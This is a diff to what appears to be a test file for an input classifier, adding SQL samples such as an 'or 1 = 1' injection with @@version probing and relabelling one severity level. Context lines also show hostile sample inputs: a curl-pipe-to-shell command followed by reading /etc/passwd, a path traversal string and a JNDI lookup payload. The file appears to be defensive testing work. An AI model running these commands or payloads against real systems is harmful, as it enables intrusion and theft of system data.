@@ -46,7 +46,7 @@ CASES = [
     ("sql.subquery", "text high!", "id in (select owner from pets)", "in (selected) pets from here"),
     ("sql.encoded-literal", "text high!", "x = char(97, 98)", "a char (97 bytes)"),
     ("sql.quoted-operator", "text medium!", "a' >= 'b", "a > b 'quoted'"),
-    ("sql.bracketed-expression", "text medium", "(binary (a)) --", "(binary (a)) -- as it was"),
+    ("sql.bracketed-expression", "text medium!", "(binary (a)) --", "(binary (a)) -- as it was"),
     ("sql.probing-statement", "text medium!", "select @a, b from bar", "select a, b from bar"),
     ("sql.statement", "text strict", "please select one", "please choose one"),
     ("sql.punctuation", "text strict", "one; two", "one, two"),
@@ -214,6 +214,8 @@ ABOUT_ATTACKS = [
     "<!DOCTYPE html><html><head><script src='app.js'></script></head><body onload='go()'><p>Hi</p></body></html>",
     "Open ../../etc/passwd in the sandbox and see what happens.",
     "curl -sSL https://x.test/install.sh | sh; cat /etc/passwd",
+    "SELECT 1",
+    "select @@version, count(*) from t where a = '1' or 1 = 1",
     "Never evaluate {{7*7}} or ${jndi:ldap://x} from a form.",
 ]
 
